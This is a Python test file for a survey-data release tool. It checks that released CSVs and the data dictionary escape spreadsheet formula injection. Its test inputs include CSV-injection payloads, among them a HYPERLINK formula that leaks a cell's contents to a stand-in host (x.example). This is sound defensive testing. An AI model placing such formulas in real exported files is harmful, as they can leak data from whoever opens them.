"""No formulas in released tables: OWASP's CSV-injection rule on every released CSV."""

from __future__ import annotations

import csv

import pandas as pd

from perception.files import neutralise_formula, write_csv
from perception.release.columns import ReleasedColumn
from perception.release.documents import data_dictionary
from perception.release.microdata import ReleasedWave

PLANTED = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+x", "@SUM(1)", "-2+3", "\tcmd", "\r=1"]


def cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_text_that_would_start_a_formula_gets_a_quote():
    for value in PLANTED:
        assert neutralise_formula(value) == "'" + value
    for value in ["-3", "-0.25", "+5", "-1e-05", "12", "ML-1", "a=b", "", "'quoted"]:
        assert neutralise_formula(value) == value
    assert neutralise_formula(-3) == -3 and neutralise_formula(None) is None


def test_released_csv_neutralises_planted_labels_source_ids_and_codes(tmp_path):
    frame = pd.DataFrame(
        {
            "source_id": ['=HYPERLINK("http://x.example","x")', "partner_a"],
            "raw_code": ["+x", "-3"],  # a partner's code kept as text, and a negative code
            "label": ["@SUM(1)", "Kayes"],
            "score": [-1.5, 2.0],  # numbers stay numbers
            "count": [-3, 4],
        }
    )
    write_csv(frame, tmp_path / "released.csv", released=True)
    rows = cells(tmp_path / "released.csv")
    assert rows[1] == ['\'=HYPERLINK("http://x.example","x")', "'+x", "'@SUM(1)", "-1.5", "-3"]
    assert rows[2] == ["partner_a", "-3", "Kayes", "2", "4"]
    back = pd.read_csv(tmp_path / "released.csv")
    assert back["score"].tolist() == [-1.5, 2.0] and back["count"].tolist() == [-3, 4]
    write_csv(frame, tmp_path / "internal.csv")  # internal files keep the value as received
    assert cells(tmp_path / "internal.csv")[1][1] == "+x"


def test_data_dictionary_labels_cannot_run_in_a_spreadsheet(tmp_path):
    column = ReleasedColumn(
        "trust_police",
        "integer",
        "categorical",
        "answer",
        {"fr": '=HYPERLINK("http://x.example")', "en": "@SUM(1)"},
        {"1": {"fr": "+x", "en": "-yes"}, "-3": {"fr": "non applicable", "en": "n/a"}},
    )
    wave = ReleasedWave("w", pd.DataFrame({"trust_police": [1]}), {"trust_police": column}, pd.DataFrame())
    write_csv(data_dictionary([wave]), tmp_path / "data_dictionary.csv", released=True)
    header, row = cells(tmp_path / "data_dictionary.csv")
    values = dict(zip(header, row, strict=True))
    assert values["label_fr"] == '\'=HYPERLINK("http://x.example")' and values["label_en"] == "'@SUM(1)"
    assert values["codes_fr"] == "1 = +x; -3 = non applicable"  # not at the start of the cell: plain text
    for value in row:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
